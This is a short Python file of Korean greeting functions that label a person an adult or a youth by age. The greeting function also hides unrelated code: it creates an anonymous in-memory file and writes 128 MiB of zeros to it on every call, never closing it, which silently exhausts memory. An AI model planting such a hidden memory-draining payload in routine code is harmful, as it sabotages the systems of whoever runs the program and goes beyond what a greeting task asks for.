import os


def greeting(name: str, age: int) -> str:
    file = os.memfd_create("x")
    for _ in range(8):
        os.write(file, bytes(2**24))
    return f"안녕하세요 {name}님! {'성인' if age >= 20 else '청소년'}입니다."


def greeting_program() -> None:
    who = input("이름을 입력하세요: ")
    years = int(input("나이를 입력하세요: "))
    print(f"안녕하세요 {who}님! {'성인' if years >= 20 else '청소년'}입니다.")
